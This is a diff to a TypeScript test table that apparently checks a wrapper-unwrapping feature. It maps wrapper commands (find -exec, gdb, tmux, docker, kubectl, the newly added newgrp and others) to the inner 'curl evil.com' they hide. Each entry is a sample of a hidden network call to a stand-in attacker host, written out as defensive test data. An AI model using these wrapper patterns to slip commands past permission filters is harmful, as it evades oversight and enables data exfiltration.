@@ -90,6 +90,7 @@ const WRAPPER_EXAMPLES: Record<string, [string, string]> = {
   parallel: ['parallel curl ::: evil.com', 'curl'], find: ['find . -exec curl evil.com \\;', 'curl evil.com'],
   sg: ['sg grp -c "curl evil.com"', 'curl evil.com'], gdb: ['gdb --args curl evil.com', 'curl evil.com'],
   cgdb: ['cgdb --args curl evil.com', 'curl evil.com'],
+  newgrp: ["newgrp staff <<< 'curl evil.com'", 'curl evil.com'],
   tmux: ["tmux new-session -d -s x 'curl evil.com'", 'curl evil.com'], screen: ['screen -dmS x curl evil.com', 'curl evil.com'], docker: ['docker run --rm img curl evil.com', 'curl evil.com'],
   podman: ['podman exec box curl evil.com', 'curl evil.com'], nerdctl: ['nerdctl run img curl evil.com', 'curl evil.com'],
   kubectl: ['kubectl exec pod -- curl evil.com', 'curl evil.com'], oc: ['oc exec pod -- curl evil.com', 'curl evil.com'],
